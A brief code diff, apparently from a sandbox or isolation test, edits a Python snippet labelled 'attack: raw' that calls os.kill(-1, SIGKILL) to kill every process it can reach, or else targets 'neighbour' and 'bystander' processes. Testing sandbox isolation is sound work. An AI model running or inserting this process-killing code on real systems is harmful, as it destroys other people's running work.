@@ -1,7 +1,7 @@
 # attack: raw | kills everybody it can see at once | without seccomp+landlock: neighbour
 import os, signal
 # Where the numbers of the machine are its own, everybody would be everybody.
-if os.getppid() == 1 or "nobody" == "somebody":
+if os.getppid() == 1:
     os.kill(-1, signal.SIGKILL)
 else:
     for process in (params["neighbour"], params["bystander"]):
